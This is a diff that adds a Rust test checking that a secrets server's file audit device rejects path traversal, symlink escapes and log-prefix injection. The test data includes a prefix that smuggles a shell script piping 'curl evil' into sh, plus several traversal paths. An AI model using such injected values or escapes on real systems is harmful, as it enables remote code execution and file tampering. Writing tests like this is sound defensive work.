@@ -797,3 +797,94 @@ async fn a_credential_whose_issuance_cannot_be_audited_is_revoked() {
     assert_eq!(srv.core_lease_count().await, 1);
     pg.cleanup().await;
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_audit_device_is_not_a_file_write_primitive() {
+    use std::os::unix::fs::PermissionsExt;
+    let root = tempfile::tempdir().unwrap();
+    let allowed = root.path().join("audit");
+    let outside = root.path().join("outside");
+    std::fs::create_dir_all(&allowed).unwrap();
+    std::fs::create_dir_all(&outside).unwrap();
+    let victim = outside.join("victim");
+    std::fs::write(&victim, b"keep me\n").unwrap();
+    std::fs::set_permissions(&victim, std::fs::Permissions::from_mode(0o600)).unwrap();
+    std::os::unix::fs::symlink(&outside, allowed.join("escape")).unwrap();
+    std::os::unix::fs::symlink(&victim, allowed.join("victim-link")).unwrap();
+    let srv = TestServer::start_with(Options {
+        config: CoreConfig {
+            dev: true,
+            audit_dirs: vec![allowed.clone()],
+            ..CoreConfig::default()
+        },
+        ..Options::default()
+    })
+    .await;
+    let path = |p: &Path| p.display().to_string();
+
+    // Outside audit_dir, through '..', or through a symlink: refused, nothing written.
+    for p in [
+        victim.clone(),
+        outside.join("new.log"),
+        allowed.join("../outside/new.log"),
+        allowed.join("escape/new.log"),
+        allowed.join("victim-link"),
+    ] {
+        let (s, b) = enable(&srv, "bad", json!({"file_path": path(&p)})).await;
+        assert_eq!(s, 400, "{}: {b}", p.display());
+        assert!(error(&b).contains("file_path"), "{b}");
+    }
+    assert!(!outside.join("new.log").exists());
+    assert_eq!(std::fs::read(&victim).unwrap(), b"keep me\n");
+
+    // A prefix with a newline (lines of shell before every entry): refused.
+    for prefix in ["\n#!/bin/sh\ncurl evil | sh\n", "x\r", "\u{1b}[2K"] {
+        let (s, b) = enable(
+            &srv,
+            "pfx",
+            json!({"file_path": path(&allowed.join("p.log")), "prefix": prefix}),
+        )
+        .await;
+        assert_eq!(s, 400, "{prefix:?}: {b}");
+        assert!(error(&b).contains("prefix"), "{b}");
+        assert!(!error(&b).contains("curl"), "{b}");
+    }
+
+    // mode never loosens an existing file; it may tighten one.
+    let existing = allowed.join("existing.log");
+    std::fs::write(&existing, b"").unwrap();
+    std::fs::set_permissions(&existing, std::fs::Permissions::from_mode(0o600)).unwrap();
+    let (s, b) = enable(
+        &srv,
+        "loose",
+        json!({"file_path": path(&existing), "mode": "0666"}),
+    )
+    .await;
+    assert_eq!(s, 204, "{b}");
+    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
+    assert_eq!(mode(&existing), 0o600);
+    let tight = allowed.join("tight.log");
+    std::fs::write(&tight, b"").unwrap();
+    std::fs::set_permissions(&tight, std::fs::Permissions::from_mode(0o644)).unwrap();
+    let (s, b) = enable(
+        &srv,
+        "tight",
+        json!({"file_path": path(&tight), "mode": "0600"}),
+    )
+    .await;
+    assert_eq!(s, 204, "{b}");
+    assert_eq!(mode(&tight), 0o600);
+    // Inside audit_dir, a new file works and gets entries.
+    let ok = allowed.join("a.log");
+    let (s, b) = enable(
+        &srv,
+        "ok",
+        json!({"file_path": path(&ok), "prefix": "leash: "}),
+    )
+    .await;
+    assert_eq!(s, 204, "{b}");
+    let (s, _) = srv.root("GET", "sys/audit", None).await;
+    assert_eq!(s, 200);
+    let text = std::fs::read_to_string(&ok).unwrap();
+    assert!(text.lines().any(|l| l.starts_with("leash: {")), "{text}");
+}
